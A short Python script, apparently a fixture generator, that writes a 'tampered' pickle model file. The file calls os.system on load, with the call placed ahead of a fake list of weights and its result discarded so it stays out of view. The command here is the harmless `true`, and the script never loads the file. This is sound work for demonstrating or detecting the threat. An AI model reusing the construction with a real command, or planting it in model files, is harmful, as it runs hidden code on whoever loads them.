"""Write what a tampered model file looks like: a pickle that runs a command as soon as it is loaded.

The command is `true`, which does nothing, and nothing here ever loads the file. It is assembled opcode by
opcode, so that neither this script nor any library has to run what it writes.
"""

from __future__ import annotations

import argparse
import pickle
import struct
from pathlib import Path

COMMAND = b"true"
WEIGHTS = 64


def tampered() -> bytes:
    """A protocol-2 pickle: a call of ``os.system``, hidden in front of a list that looks like weights."""
    payload = (
        pickle.GLOBAL + b"os\nsystem\n"
        + pickle.BINUNICODE + struct.pack("<I", len(COMMAND)) + COMMAND
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.POP  # the result is thrown away, so whoever loads the file sees only the weights
    )  # fmt: skip
    weights = b"".join(pickle.BINFLOAT + struct.pack(">d", i / WEIGHTS) for i in range(WEIGHTS))
    return (
        pickle.PROTO + b"\x02"
        + payload
        + pickle.EMPTY_LIST + pickle.MARK + weights + pickle.APPENDS
        + pickle.STOP
    )  # fmt: skip


def write_tampered(path: Path) -> None:
    """Write the file."""
    path.write_bytes(tampered())


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="Write a tampered pickle with a harmless payload.")
    parser.add_argument("--out", type=Path, default=Path("forest-tampered.pkl"), help="File to write.")
    write_tampered(parser.parse_args().out)
